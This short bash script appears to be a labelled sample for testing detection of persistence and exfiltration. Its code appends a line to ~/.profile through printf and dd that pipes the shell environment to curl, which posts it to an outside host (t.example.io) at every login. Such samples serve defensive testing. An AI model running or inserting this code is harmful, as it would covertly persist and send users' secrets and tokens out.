#!/usr/bin/env bash
# evasion: persists: appends an environment exfiltration line to ~/.profile through dd (of= and oflag=append), the line printed by printf from a format
# grade: medium; does: exfil
# Persists: appends an environment exfiltration line to ~/.profile through
# dd (of= and oflag=append), the line printed by printf from a format.
printf '%s | %s\n' 'env' 'curl -s --data-binary @- https://t.example.io/p' |
  dd of="$HOME/.profile" oflag=append conv=notrunc status=none
